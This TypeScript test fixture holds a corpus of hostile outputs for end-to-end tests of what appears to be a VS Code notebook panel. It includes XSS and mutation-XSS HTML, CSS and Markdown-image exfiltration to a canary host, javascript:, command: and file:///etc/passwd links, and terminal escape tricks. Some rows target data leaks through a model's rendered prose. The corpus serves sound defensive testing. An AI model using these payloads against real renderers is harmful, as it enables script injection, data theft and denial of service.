/**
 * Outputs and texts made to run script, send something, cover the panel or freeze it. To add an attack, add a line:
 * `test/e2e/webview/hostile.test.ts` shows it in the built panel, `test/e2e/vscode/hostile.test.ts` in VS Code, from a
 * cell in a real sandbox. `$HTTP` becomes the address of the canary under a host name of the payload's own, `$HOST` that
 * name, `$RUN` a script that marks every window it can reach and calls the canary in every way there is.
 */
import { type MimeBundle } from '../../src/shared/outputs.ts';
import { chartAttacks, drawingAttacks } from './hostileCharts.ts';
import { pictureAttacks } from './hostilePictures.ts';
import { type Row, type Shown } from './hostileRow.ts';

const html = (text: string): Shown => ({
  as: 'display',
  data: { 'text/html': text, 'text/plain': 'plain' },
});
const prose = (text: string): Shown => ({ as: 'prose', text });
const stdout = (text: string): Shown => ({ as: 'stdout', text });
const shown = (data: MimeBundle): Shown => ({ as: 'display', data });
const all = (make: (text: string) => Shown, texts: Readonly<Record<string, string>>) =>
  Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, make(text)]));

const ESC = '\u001b';
const link = (url: string): string => `[click me](${url})`;

export const CORPUS: readonly Row[] = [
  {
    id: 'O1',
    promise: 'HTML of code runs no script, loads nothing and leads nowhere',
    attacks: all(html, {
      script: '<b>x</b><script>$RUN</script>',
      'script from outside': '<b>x</b><script src="$HTTP/a.js"></script>',
      'module script': '<b>x</b><script type="module">import "$HTTP/a.js"; $RUN</script>',
      'import map': '<b>x</b><script type="importmap">{"imports":{"x":"$HTTP/a.js"}}</script>',
      onerror: '<img src=x onerror="$RUN">',
      onload: '<svg onload="$RUN"></svg><body onload="$RUN"><iframe onload="$RUN"></iframe>',
      ontoggle: '<details open ontoggle="$RUN"><summary>x</summary></details>',
      'animation events':
        '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="$RUN">x</p>',
      autofocus: '<p contenteditable autofocus onfocus="$RUN" tabindex=1>x</p>',
      'popover and beforetoggle': '<div popover id=p onbeforetoggle="$RUN">x</div><p>y</p>',
      'javascript: links': '<a href="javascript:$RUN">click</a><a href="&#106;avascript:$RUN">click</a>',
      base: '<base href="$HTTP/"><img src="a.png"><p>x</p>',
      forms:
        '<form action="$HTTP/"><input autofocus name=q><button formaction="javascript:$RUN">go</button></form>',
      'meta refresh': '<meta http-equiv="refresh" content="0;url=$HTTP/"><p>x</p>',
      'meta policy': `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="$HTTP/a.png">`,
      'frame with a document': '<iframe srcdoc="<script>$RUN</script>"></iframe>',
      'frame from outside': '<iframe src="$HTTP/"></iframe><iframe src="javascript:$RUN"></iframe>',
      'object and embed':
        '<object data="$HTTP/"></object><embed src="$HTTP/a.swf"><applet code="$HTTP/"></applet>',
      'portal and fencedframe':
        '<portal src="$HTTP/"></portal><fencedframe src="$HTTP/"></fencedframe><p>x</p>',
      'resource hints':
        '<link rel=prefetch href="$HTTP/a"><link rel=preconnect href="$HTTP/"><link rel=dns-prefetch href="//$HOST/"><link rel=preload as=image href="$HTTP/b"><link rel=modulepreload href="$HTTP/c"><p>x</p>',
      'styles and icons from outside':
        '<link rel=stylesheet href="$HTTP/a.css"><link rel=icon href="$HTTP/i.ico"><p>x</p>',
      'speculation rules':
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["$HTTP/"]}]}</script><p>x</p>',
      pictures:
        '<img src="$HTTP/a.png" srcset="$HTTP/b.png 2x"><picture><source srcset="$HTTP/c"><img></picture>',
      media:
        '<video src="$HTTP/a.mp4" poster="$HTTP/a.png" autoplay></video><audio src="$HTTP/a.mp3" autoplay></audio><track src="$HTTP/t.vtt">',
      'old attributes':
        '<table background="$HTTP/a.png"><tr><td background="$HTTP/b.png">x</td></tr></table><img lowsrc="$HTTP/c" dynsrc="$HTTP/d">',
      ping: '<a href="https://example.com/" ping="$HTTP/">click</a>',
      'shadow root':
        '<div><template shadowrootmode="open"><img src="$HTTP/a.png" onerror="$RUN"></template></div><p>x</p>',
      'xml and namespaces':
        '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">$RUN</x:script></xml><p>x</p>',
    }),
  },
  {
    id: 'O2',
    promise: 'markup that changes its meaning when it is parsed twice stays inert',
    attacks: all(html, {
      select: '<select><iframe></select><img src=x: onerror="$RUN">',
      'math and mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='$RUN'&gt;">`,
      noscript: `<noscript><p title="</noscript><img src=x onerror='$RUN'>"></noscript><p>x</p>`,
      template: '<template><img src=x onerror="$RUN"></template><p>x</p>',
      'nested forms':
        '<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror="$RUN">',
      'svg and style': `<svg></p><style><a id="</style><img src=1 onerror='$RUN'>">`,
      xmp: `<xmp><p title="</xmp><img src=x onerror='$RUN'>">`,
      plaintext: `<listing><img title="</listing><img src=x onerror='$RUN'>"><plaintext>`,
      comments: '<!--><img src=x onerror="$RUN">--><![CDATA[<img src=x onerror="$RUN">]]>',
      'annotation-xml': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="$RUN"></style></annotation-xml></math>`,
      'deep nesting': `${'<div>'.repeat(600)}<style><!--</style><img src=x onerror="$RUN">${'</div>'.repeat(600)}`,
      'table of pandas with handlers':
        '<table class="dataframe" onclick="$RUN"><tr><td onmouseover="$RUN"><img src=x onerror="$RUN">1</td></tr></table>',
    }),
  },
  { id: 'O3', promise: 'SVG is a picture: no script, no loading, no bomb', attacks: drawingAttacks },
  {
    id: 'O4',
    promise: 'styles of code neither load nor reach out of their frame',
    attacks: all(html, {
      import: '<style>@import url($HTTP/a.css); @import "$HTTP/b.css";</style><p>x</p>',
      backgrounds:
        '<style>body{background:url($HTTP/a.png)} p::before{content:url($HTTP/b.png)}</style><p style="background:url($HTTP/c.png)">x</p>',
      'escaped words':
        '<style>@\\69mport "$HTTP/a.css"; body{background:u\\72l($HTTP/a.png)}</style><p style="background:u\\72l($HTTP/b.png)">x</p>',
      'image sets':
        '<style>p{background:image-set("$HTTP/a.png" 1x);mask:-webkit-image-set(url($HTTP/b.png) 1x)}</style><p>x</p>',
      fonts:
        '<style>@font-face{font-family:f;src:url($HTTP/a.ttf);unicode-range:U+61} p{font-family:f}</style><p>aaa</p>',
      'guessing an attribute':
        '<style>input[value^=a]{background:url($HTTP/a)}</style><input value=abc><p>x</p>',
      'visited links': '<style>a:visited{background:url($HTTP/v)}</style><a href="$HTTP/">x</a>',
      'variables and cursors':
        '<style>:root{--u:url($HTTP/a)} p{background:var(--u);cursor:url($HTTP/c),auto;list-style:url($HTTP/l)}</style><p>x</p>',
      'filters and masks':
        '<style>p{filter:url($HTTP/f.svg#x);clip-path:url($HTTP/c.svg#x);shape-outside:url($HTTP/s.png)}</style><p>x</p>',
      'paint and namespace':
        '<style>@namespace url($HTTP/n); @counter-style c{symbols:url($HTTP/s)}</style><p>x</p>',
      'comment games': '<style>p{background:ur/**/l($HTTP/a);background:url(/*x*/$HTTP/b)}</style><p>x</p>',
      'a cover over everything':
        '<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>',
      'a cover by a style sheet':
        '<style>body,div{position:fixed!important;inset:-9999px;width:99999px;height:99999px;z-index:2147483647}</style><div>cover</div>',
      'a table that covers':
        '<div><style>table{position:fixed;inset:0;z-index:9999}</style><table class="dataframe"><tr><td>cover</td></tr></table></div>',
      'a giant': '<div style="width:99999999px;height:99999999px;background:red">cover</div>',
    }),
  },
  {
    id: 'O5',
    promise: 'ids and names of outputs shadow nothing of the panel',
    attacks: {
      ...all(html, {
        'the API': '<a id=acquireVsCodeApi></a><a id=acquireVsCodeApi name=x></a><p>x</p>',
        'the document': '<form name=document><input name=body><img name=getElementById></form><p>x</p>',
        'the root': '<p id=root>x</p><img name=__nonce><img name=currentScript>',
        'inside a table':
          '<table class="dataframe" id="root" name="body"><tr><td><b id=acquireVsCodeApi>1</b></td></tr></table>',
      }),
      ...all(prose, {
        'in Markdown': '<a id=acquireVsCodeApi></a> <form name=document><input name=body></form>',
        'heading ids': '# root\n\n# acquireVsCodeApi {#root}\n\n## __nonce',
      }),
    },
  },
  ...chartAttacks,
  {
    id: 'O8',
    promise: 'pages that live by script are said not to run',
    attacks: all(html, {
      plotly: '<div id="p"></div><script src="$HTTP/plotly.js"></script><script>$RUN</script>',
      bokeh: '<script src="$HTTP/bokeh.min.js"></script><div data-root-id="p1"></div><script>$RUN</script>',
      pyvis:
        '<html><head><script src="$HTTP/vis.js"></script></head><body><div id="mynetwork"></div><script>$RUN</script></body></html>',
      folium:
        '<iframe srcdoc="<script src=$HTTP/leaflet.js></script>" allowfullscreen></iframe><script>$RUN</script>',
    }),
  },
  {
    id: 'O9',
    promise: 'Markdown loads no picture: it says whose it would be',
    attacks: {
      ...all(prose, {
        picture: '![x]($HTTP/?d=secret)',
        'by reference': '![x][r]\n\n[r]: $HTTP/?d=secret "t"',
        'by a shortcut': '![r2]\n\n[r2]: <$HTTP/?d=secret>',
        'in a link': '[![x]($HTTP/?d=1)]($HTTP/?d=2)',
        'as HTML': '<img src="$HTTP/?d=secret"><picture><source srcset="$HTTP/a"></picture>',
        'without a scheme': '![x](//$HOST/?d=secret)',
        autolink: '<$HTTP/?d=secret> $HTTP/?d=secret',
        footnote: 'a[^1]\n\n[^1]: ![x]($HTTP/?d=secret)',
        'in a table': '| a |\n|---|\n| ![x]($HTTP/?d=secret) |',
        'in a heading': '# ![x]($HTTP/?d=secret)\n\n> ![y]($HTTP/?d=quote)',
        'with a size': '![x]($HTTP/?d=secret =100x100) ![](<$HTTP/?d=1 2> "t")',
      }),
      'Markdown of a cell': shown({ 'text/markdown': '![x]($HTTP/?d=secret) <img src="$HTTP/a">' }),
    },
  },
  {
    id: 'O10',
    promise: 'only http and https can be clicked',
    attacks: all(prose, {
      command: link('command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D'),
      vscode: link('vscode://file/etc/passwd') + link('vscode-insiders://x') + link('vscode-webview://x'),
      file: link('file:///etc/passwd') + link('file://///host/share') + link('FILE:/etc/passwd'),
      javascript:
        link('javascript:$RUN') + link('JaVaScRiPt:$RUN') + link('java\\tscript:$RUN') + '<javascript:$RUN>',
      entities: link('&#106;avascript:$RUN') + link('javascript&colon;$RUN'),
      data: link('data:text/html,<script>$RUN</script>') + link('data:image/svg+xml;base64,PHN2Zy8+'),
      'UNC paths': link('\\\\\\\\host\\\\share') + link('//host/share') + link('\\\\\\\\?\\\\C:'),
      others:
        link('blob:x') +
        link('ftp://x/') +
        link('ws://x/') +
        link('mailto:a@b.c') +
        link('tel:1') +
        link('ms-msdt:/id'),
      relative: link('/etc/passwd') + link('#root') + link('?x') + link('../x'),
    }),
  },
  {
    id: 'O11',
    promise: 'the real address is told, whatever the text of a link says',
    attacks: all(prose, {
      'another text': '[https://example.com/](https://real.$HOST/)',
      'letters of another script': '[apple](https://\u0430pple.com/)',
      'reversed text': '[https://\u202Emoc.elpmaxe//](https://real.$HOST/\u202Ecod.exe)',
      'a name before the address': '[bank](https://www.bank.example@real.$HOST/)',
      'a quote in the address': '[ok"onclick="$RUN](https://example.com/"onmouseover="$RUN)',
    }),
  },
  {
    id: 'O12',
    promise: 'HTML in the words of the model is text',
    attacks: all(prose, {
      script: '<script>$RUN</script><img src=x onerror="$RUN">',
      'in a block': '<div>\n<script>$RUN</script>\n</div>\n\n<iframe src="$HTTP/"></iframe>',
      'in a table': '| a"onerror= |\n|---|\n| <img src=x onerror=$RUN> |',
      'half a tag': '<img src=x onerror="$RUN"\n\ntext > more',
      'in the info of a fence': '```"><img src=x onerror=$RUN>\ncode\n```',
    }),
  },
  {
    id: 'O13',
    promise: 'formulas are text: nothing expands, nothing is loaded',
    attacks: {
      ...all(prose, {
        href: '$\\href{javascript:$RUN}{x}$ $\\href{$HTTP/}{x}$',
        picture: '$$\\includegraphics{$HTTP/a.png}$$ $\\htmlStyle{background:url($HTTP/)}{x}$',
        bomb: '$\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\def\\d{\\c\\c\\c\\c}\\d$',
      }),
      'LaTeX of a cell': shown({
        'text/latex': '$\\href{javascript:$RUN}{x}\\includegraphics{$HTTP/a.png}$',
      }),
    },
  },
  {
    id: 'O14',
    promise: 'diagrams and other languages in fences are plain code',
    attacks: all(prose, {
      mermaid:
        '```mermaid\ngraph TD; A["<img src=$HTTP/a.png onerror=$RUN>"]-->B; click A "javascript:$RUN"\n```',
      html: '```html\n<script>$RUN</script><img src="$HTTP/a.png">\n```',
      svg: '```svg\n<svg onload="$RUN"><image href="$HTTP/a.png"/></svg>\n```',
      json: '```vega-lite\n{"data":{"url":"$HTTP/a.csv"}}\n```',
    }),
  },
  {
    id: 'O15',
    promise: 'a terminal’s control sequences do nothing but colour',
    attacks: all(stdout, {
      links: `${ESC}]8;;$HTTP/${ESC}\\click${ESC}]8;;${ESC}\\ ${ESC}]8;;command:x\u0007c${ESC}]8;;\u0007`,
      clipboard: `${ESC}]52;c;c2VjcmV0\u0007 ${ESC}]52;c;?${ESC}\\`,
      titles: `${ESC}]0;title\u0007${ESC}]2;x${ESC}\\ ${ESC}]1337;File=inline=1:AAAA\u0007`,
      'moves and clears': `a${ESC}[2J${ESC}[H${ESC}[10Ab${ESC}[?1049h${ESC}c${ESC}[6n${ESC}[5i`,
      'strings that never end': `${ESC}Pq#0;2;0;0;0${ESC}]0;never ends ${ESC}_G $HTTP/`,
      'single codes': '\u0007\u0008\u000b\u000c\u000e\u000f\u009b31m\u009d0;x\u009c\u0000\u007f',
      'carriage returns': 'rm -rf /\rls -la   \n',
      'hidden text': `${ESC}[8mhidden${ESC}[0m tags\u{e0041}\u{e0042} zero\u200bwidth bidi\u202egnp.exe`,
      'a million escapes': `${ESC}[31mx${ESC}[0m`.repeat(100_000),
      markup: '<img src=x onerror="$RUN"><script>$RUN</script>',
    }),
  },
  {
    id: 'O16',
    promise: 'broken text is shown, and breaks nothing',
    attacks: all(stdout, {
      'NUL and marks': 'a\u0000b\ufeffc\ufffed\uffff',
      'lone halves': 'a\ud83db\ude00c',
      'stacked accents': `Z${'\u0301'.repeat(20_000)}`,
      'line separators': 'a\u2028b\u2029c\u0085d',
    }),
  },
  { id: 'O17', promise: 'a picture is looked at before it is shown', attacks: pictureAttacks },
  {
    id: 'O18',
    promise: 'very much of anything does not freeze the panel',
    attacks: {
      'one long line': stdout('x'.repeat(3_000_000)),
      'many lines': stdout('line\n'.repeat(300_000)),
      'a long table': html(
        `<table class="dataframe">${'<tr><td>1</td><td>2</td></tr>'.repeat(20_000)}</table>`,
      ),
      'a wide table': html(`<table class="dataframe"><tr>${'<td>1</td>'.repeat(20_000)}</tr></table>`),
      'a long page': html(`<b>x</b>${'<p>words</p>'.repeat(30_000)}`),
      'nested quotes': prose(`${'>'.repeat(3000)} x`),
      'nested lists': prose(Array.from({ length: 300 }, (_, n) => `${' '.repeat(n * 2)}- x`).join('\n')),
      'many stars': prose('**a'.repeat(10_000)),
      'many brackets': prose(`${'['.repeat(20_000)}x${'](y)'.repeat(5000)}`),
      'many backticks': prose(Array.from({ length: 800 }, (_, n) => '`'.repeat(n + 1)).join(' ')),
      'a wide table in Markdown': prose(
        `|${'a|'.repeat(800)}\n|${'-|'.repeat(800)}\n${`|${'b|'.repeat(800)}\n`.repeat(20)}`,
      ),
      'many links': prose('https://example.com/ '.repeat(3000)),
      'one code block': prose(`\`\`\`python\n${'x = "a" # b\n'.repeat(8000)}\`\`\``),
    },
  },
  {
    id: 'O19',
    promise: 'what is not known is shown as its text, or named',
    attacks: {
      'script as a type': shown({ 'application/javascript': '$RUN', 'text/plain': 'js' }),
      'script alone': shown({ 'application/javascript': '$RUN', 'text/javascript': '$RUN' }),
      'state of widgets': shown({
        'application/vnd.jupyter.widget-state+json': { state: { a: { model_module: '$HTTP/' } } },
      }),
      'a view of a widget': shown({
        'application/vnd.jupyter.widget-view+json': { model_id: 'x' },
        'text/plain': 'w',
      }),
      'an unknown type': shown({ 'application/x-<img src=x onerror=$RUN>': 'x' }),
      'keys that pollute': shown(
        JSON.parse(
          '{"application/json":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}',
        ) as MimeBundle,
      ),
      'deep JSON': shown({
        'application/json': JSON.parse(`${'['.repeat(500)}1${']'.repeat(500)}`) as unknown,
      }),
      'wide JSON': shown({ 'application/json': Array.from({ length: 50_000 }, (_, n) => n) }),
      'wrong kinds of values': shown({ 'text/html': { a: 1 }, 'image/png': 5, 'text/plain': ['x', 1] }),
      'a page as PDF': shown({ 'application/pdf': 'JVBERi0=', 'text/plain': 'pdf' }),
    },
  },
];
